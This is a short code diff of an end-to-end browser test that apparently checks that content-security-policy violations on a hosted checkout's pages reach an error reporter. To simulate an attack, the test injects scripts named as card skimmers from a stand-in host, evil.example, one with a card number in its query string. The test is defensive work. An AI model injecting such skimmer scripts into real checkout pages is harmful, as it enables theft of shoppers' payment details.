@@ -85,9 +85,8 @@ test('PROOF-6 violations on the pages of the hosted checkout reach the error rep
   await page.goto(getHostedCheckoutUrl());
   await addScript(page, 'https://evil.example/details-skimmer.js?card=4242');
   await fillAddress(page);
-  await page.route('**/buy/assets/pay.js', (route) => route.abort());
   await continueToPayment(page);
-  await page.waitForURL(/\/buy\/express_checkout\/[0-9a-f]+/);
+  await expect(page.getByRole('radio', { name: /Standard delivery/ })).toBeChecked();
   await addScript(page, 'https://evil.example/payment-skimmer.js');
   const id = new URL(page.url()).pathname.split('/').at(-1) ?? '';
   await expect
